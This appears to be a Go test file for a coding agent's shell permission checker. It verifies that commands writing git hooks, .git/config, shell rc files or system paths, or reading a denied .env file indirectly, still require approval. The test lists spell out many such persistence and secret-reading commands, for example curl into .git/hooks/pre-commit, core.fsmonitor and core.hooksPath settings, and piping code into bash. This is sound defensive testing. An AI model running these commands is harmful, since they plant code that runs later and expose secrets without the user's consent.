package shellread_test

import (
	"strings"
	"testing"

	"github.com/adze-agent/adze/internal/policy"
	"github.com/adze-agent/adze/internal/shellread"
)

// TestEveryCommandAllowed: under a rule that allows every command, and in the mode
// that allows everything, one that may write a protected path still asks.
// TestDeniedNamesAreSeen: where a rule denies a file, a command that may read or
// write it by a name from elsewhere, or names it in code, asks in every mode.
func TestDeniedNamesAreSeen(t *testing.T) {
	f := newFixture()
	deny := []policy.Rule{}
	for _, text := range []string{"Read(.env)", "Edit(src/**)"} {
		r, err := policy.ParseRule(text, policy.Deny, policy.CLI, "test", "/home/u/project")
		if err != nil {
			t.Fatal(err)
		}
		deny = append(deny, r)
	}
	all := policy.Rule{Tool: "Bash", Effect: policy.Allow, Scope: policy.CLI}
	for _, command := range []string{
		`find . -type f -exec cat {} +`, `find . -name '.env*' -print0 | xargs -0 cat`, `ls -A | xargs cat`, `cat < .e*`, `while read -r l; do echo $l; done < .e*`,
		`python3 -c "print(open('.env').read())"`, `env -S 'cat .env'`, `gcc -osrc/x y.c`, `perl -ne print .e*`, `echo x >> sr?/a.go`,
	} {
		for _, mode := range []policy.Mode{policy.Bypass, policy.Default} {
			r := policy.Rules{Dir: "/home/u/project", Dirs: []string{"/home/u/project"}, Home: "/home/u", List: append([]policy.Rule{all}, deny...)}
			if v := policy.Decide(r, mode, policy.Request{Tool: "Bash", Actions: shellread.Read(command, f.world()).Actions}); v.Effect == policy.Allow {
				t.Errorf("%s: %q: %s (%s)", mode, command, v.Effect, v.Reason)
			}
		}
	}
}

func TestEveryCommandAllowed(t *testing.T) {
	f := newFixture()
	decideIn := func(command string, mode policy.Mode, rules ...policy.Rule) policy.Verdict {
		w := f.world()
		w.Repo = func(string) (common, git string, ok bool) {
			return "/home/u/project/.git", "/home/u/project/.git", true
		}
		r := policy.Rules{Dir: "/home/u/project", Dirs: []string{"/home/u/project"}, Home: "/home/u", List: rules}
		return policy.Decide(r, mode, policy.Request{Tool: "Bash", Actions: shellread.Read(command, w).Actions})
	}
	all := policy.Rule{Tool: "Bash", Effect: policy.Allow, Scope: policy.CLI}
	for line := range strings.Lines(mentionAsks) {
		command := strings.ReplaceAll(strings.TrimSpace(line), "§", "\n")
		if command == "" {
			continue
		}
		if v := decideIn(command, policy.Default, all); v.Effect != policy.Ask || v.Check != policy.CheckProtected && v.Check != policy.CheckRemoval {
			t.Errorf("allowed Bash: %q: %s %s (%s), want ask protected-path or dangerous-removal", command, v.Effect, v.Check, v.Reason)
		}
		if v := decideIn(command, policy.Bypass); v.Effect != policy.Ask && !strings.HasPrefix(command, "git init") {
			t.Errorf("bypass: %q: %s %s (%s), want ask", command, v.Effect, v.Check, v.Reason)
		}
	}
	for line := range strings.Lines(mentionAllows) {
		command := strings.ReplaceAll(strings.TrimSpace(line), "§", "\n")
		if command == "" {
			continue
		}
		if v := decideIn(command, policy.Default, all); v.Effect != policy.Allow {
			t.Errorf("allowed Bash: %q: %s %s (%s), want allow", command, v.Effect, v.Check, v.Reason)
		}
		if v := decideIn(command, policy.Bypass); v.Effect != policy.Allow {
			t.Errorf("bypass: %q: %s %s (%s), want allow", command, v.Effect, v.Check, v.Reason)
		}
	}
}

const mentionAsks = `
cc -o .git/hooks/pre-commit x.c
cc -o.git/hooks/pre-commit x.c
gcc x.c -o .git/hooks/pre-commit
ld -o .git/hooks/pre-commit x.o
cc -Wl,-Map=.git/hooks/pre-commit x.c
cd .git/hooks && cc -o pre-commit ../../x.c
go build -o .git/hooks/pre-commit .
go test -c -o=.git/hooks/pre-commit
rustc -o .git/hooks/pre-commit x.rs
rustc --emit=link=.git/hooks/pre-commit x.rs
javac -d .git/hooks X.java
tsc --outDir .git/hooks
tsc --outFile=.git/hooks/pre-commit
npx tsc --outDir .git/hooks
git config core.fsmonitor x
git config --global alias.x '!id'
git config --file .git/config user.name x
git config -f .git/config user.name x
git diff --output=.git/hooks/pre-commit
git diff --output .git/hooks/pre-commit
git format-patch -o .git/hooks HEAD~1
git bundle create .git/hooks/x HEAD
git archive -o .vscode/x.zip HEAD
find . -fprint .git/hooks/pre-commit
find . -fprintf .git/hooks/pre-commit %p
find . -fls .vscode/tasks.json
find . -name x -exec sh -c 'cp x .git/hooks/pre-commit' \;
sqlite3 .git/hooks/x 'select 1'
sqlite3 x.db ".output .git/hooks/pre-commit" "select 1"
tar --index-file=.git/hooks/pre-commit -cvf x.tar src
tar -cf .git/hooks/x src
curl -o .git/hooks/pre-commit http://h/x
curl --output=.git/hooks/pre-commit http://h/x
curl -o.git/hooks/pre-commit http://h/x
curl --create-dirs --output-dir .git/hooks -O http://h/pre-commit
wget -O .git/hooks/pre-commit http://h/x
wget -P .git/hooks http://h/pre-commit
openssl rand -out .git/hooks/x 10
ffmpeg -i x.mp4 .git/hooks/x.mp4
pandoc x.md -o .git/hooks/x
pandoc x.md --output=.git/hooks/x
sort -o .git/hooks/x main.go
split main.go .git/hooks/x
csplit -f .git/hooks/x main.go 1
xxd -r main.go .git/hooks/x
patch .git/config x.patch
patch <<'EOF'§--- a§+++ .git/hooks/pre-commit§EOF
ed .git/config
ed -s .git/config <<< w
ex -c wq .git/config
vim -c 'w .git/hooks/x' main.go
vim -es main.go <<'EOF'§w .git/hooks/x§EOF
emacs --batch --eval '(write-file ".git/hooks/x")'
python3 -c "open('.git/hooks/pre-commit','w')"
python3 <<'EOF'§open('.git/hooks/pre-commit','w')§EOF
node -e 'fs.writeFileSync(".git/hooks/x", "")'
perl -e 'open F, ">.git/hooks/x"'
ruby -e 'File.write(".git/hooks/x", "")'
php -r 'file_put_contents(".git/hooks/x", "");'
python3 gen.py .git/hooks/pre-commit
./gen --target .vscode/tasks.json
make OUT=.git/hooks/x
cmake -B .git/hooks
npm pack --pack-destination .git/hooks
docker run -v .git/hooks:/x alpine
docker cp c:/x .git/hooks/x
protoc --go_out=.git/hooks x.proto
objcopy x.o .git/hooks/x
strip -o .git/hooks/x x
gpg -o .git/hooks/x x.gpg
gpg --output=~/.bashrc -d x.gpg
gpg --output ~/.bashrc -d x.gpg
base64 --unknown -o .git/hooks/x
zip .git/hooks/x.zip main.go
7z a .git/hooks/x.7z main.go
bash gen.sh .git/hooks/pre-commit
sudo cc -o .git/hooks/x x.c
sudo sh -c 'echo x > .git/hooks/x'
watch 'echo x > .git/hooks/x'
nix-shell --run 'cp x .git/hooks/x'
xargs -n1 cc -o .git/hooks/x
ssh-keygen -f ~/.ssh/id_new
rsync src/a.go .git/hooks/pre-commit
scp h:x .git/hooks/pre-commit
dotnet build -o .git/hooks
git checkout-index --prefix=.git/hooks/ -a
git checkout-index --prefix .vscode/ -a
git read-tree -u --prefix=.vscode/ HEAD
git archive HEAD --prefix=.git/hooks/ | tar x
git merge-file .git/config README.md a.json
git interpret-trailers --in-place --trailer a:b .git/config
git fast-export --export-marks=.git/config HEAD
git -C .git/hooks apply x
git -C .git/hooks checkout-index -a
git credential-store --file .git/config store
git config help.autocorrect 1
git apply --directory=.vscode x.patch
/usr/bin/time -a -o .git/config ls
strace -o .git/config ls
HISTFILE=.git/config; history -s '[core] fsmonitor=x'; history -w
xargs touch <<< .git/x
CDPATH=.git; cd hooks; touch y
CDPATH=.git cd hooks; touch y
printf '%s\n' .git/x | while read f; do touch "$f"; done
echo .git/x | { read f; touch "$f"; }
read f <<< .git/x; touch "$f"
docker cp c:x .git/hooks/
gofmt -cpuprofile .git/hooks/x main.go
pip download -d .git/hooks x
jq --unknown . x | tee .git/hooks/x
sudo -D .git touch config
env -C .git touch config
env -C .git sh -c 'echo x >> config'
nice env -C .git tee -a config
python3 x.py .gi?/config
somecmd .gi[t]/config
echo a >> .gi?/config
echo a > .gi[t]/config
echo 'echo a > .git/config' | bash
echo 'open(".git/config","w")' | python3
echo 'echo a > .git/config' | sudo sh
printf 'w .git/config\n' | ed f
bash <(echo 'echo a > .git/config')
source <(echo 'echo a > .git/config')
python3 < <(echo 'open(".git/config","w")')
echo .git/hooks/pre-commit | xargs cp f
printf .git/config | xargs rm
echo .git/hooks/x | xargs -I{} cp f {}
git config --system core.hooksPath /tmp/x
git config -f /etc/gitconfig core.hooksPath /tmp/x
git init --template=src
go env -w GOFLAGS=-toolexec=./x
echo x > /etc/adze/managed.json
cp x /usr/local/bin/git
python3 x.py /etc/crontab
echo x > ~/.bazelrc
git config -f.git/config core.fsmonitor x
git config set -f.git/config core.fsmonitor x
git config -f.git/config alias.st '!x'
git config -f.git/config --unset core.hooksPath
git config --add -f.git/config include.path x
git config -f.gitmodules submodule.x.update '!x'
git config set -f.gitmodules submodule.x.update '!x'
git config -f/home/u/.gitconfig core.editor x
git config -f$HOME/.gitconfig core.editor x
git config -f.vscode/settings.json a.b c
git config -zf.git/config a.b c
git config -zf .git/config a.b c
git config --fil=.git/config a.b c
git config --fil .git/config a.b c
git config -f../project/.git/config a.b c
git config rename-section -f.git/config a b
git format-patch -o.git/hooks HEAD
git format-patch -qo.git/hooks HEAD
git archive -vo.vscode/x.zip HEAD
tar -xC.git/hooks -f x.tar
tar -cf.git/hooks/x x
unzip -qd.git/hooks x.zip
ln -st.git/hooks x
csplit -sf.git/hooks/x x 1
gpg -do.git/hooks/x y
openssl enc -out.git/hooks/x
script -qf.git/hooks/x
strip -so.git/hooks/x y
rsync -aT.git/hooks x y
make -sC.git
/usr/bin/time -ao.git/config ls
strace -fo.git/config ls
ssh -vE.git/hooks/x h
curl -sSfLo.git/hooks/pre-commit http://h
somecmd "write('.git/config')"
`

const mentionAllows = `
cat .git/config
grep x .git/hooks/a
grep --unknown x .git/hooks/a
rg --pre cat x .git
ls .git
ls --unknown .git
git add .gitignore
git add .vscode/settings.json
git commit -m "touch .git/config"
git commit -am 'write .git/hooks/pre-commit and .vscode'
git log -- .vscode
git diff --stat .git/config
git push origin HEAD:refs/heads/x
git format-patch -o out HEAD~1
git merge-file -p .git/config x y
git interpret-trailers --trailer a:b .vscode/x
git archive --prefix=x-1.0/ -o x.tar HEAD
git checkout-index --prefix=out/ -a
git mv main.go x.go
git apply x.patch
/usr/bin/time -o x.txt ls
xargs cat <<< .git/config
printf '%s\n' .git/config | while read f; do cat "$f"; done
git ls-files .github | while read f; do wc -l "$f"; done
while read f; do wc -l "$f"; done < list
CDPATH=.; cd src; touch y
docker cp c:x out/
git -C src apply x.patch
git credential-store --file .git-credentials get
git config user.name x
git remote add origin https://h/x.git
gh pr create --title 'x' --body 'changes .github/workflows/ci.yml and .vscode/'
bash .husky/pre-commit
sh .git/hooks/pre-commit
python3 .claude/hooks/x.py
node .vscode/x.js --flag
ssh -i ~/.ssh/id_ed25519 h uptime
ssh h 'echo x > ~/.bashrc'
ssh-add ~/.ssh/id_ed25519
kubectl --kubeconfig ~/.kube/config get pods
shellcheck .husky/pre-commit
actionlint .github/workflows/ci.yml
find .git -name x -newer .git/HEAD -exec cat {} +
docker build -f .devcontainer/Dockerfile .
make build
go build -o bin/x ./cmd/x
cc -o x x.c
npm run build -- --out=dist
python3 -c "print(1 / 2)"
python3 -c "import os.path"
curl -o out.html http://h/x
pandoc x.md -o x.html
echo 'see .git/hooks' | wc -l
echo 'see .git/hooks' | grep hooks
echo .git/config | xargs cat
cat x.py | python3
echo 'print(1)' | python3 -
echo src/*.go | xargs somecmd
prettier --write src/*.ts
printf '%s\n' .git/config
diff .git/config x
stat .git/HEAD
du -sh .git
npm install x@1.2.3
terraform plan -out=plan.bin
cmake -DCMAKE_C_COMPILER=/usr/bin/gcc ..
./configure CC=/usr/bin/gcc
curl --cacert /etc/ssl/certs/ca.pem -o x http://h/x
go env GOFLAGS
git config -f.git/config --get a.b
git config -f.gitmodules --list
git config -f.gitmodules -l
git config -lf.git/config
git config get -f.git/config a.b
git config -fout.cfg a.b c
git config list -f.gitmodules
git format-patch -qoout HEAD~1
git archive -vox.zip HEAD
git commit -F.git/COMMIT_EDITMSG
tar -xCout -f x.tar
strip -sox y
gcc -Wall -O2 -Isrc -Lout main.c
make -sj4
curl -sSfLoout/x http://h
`
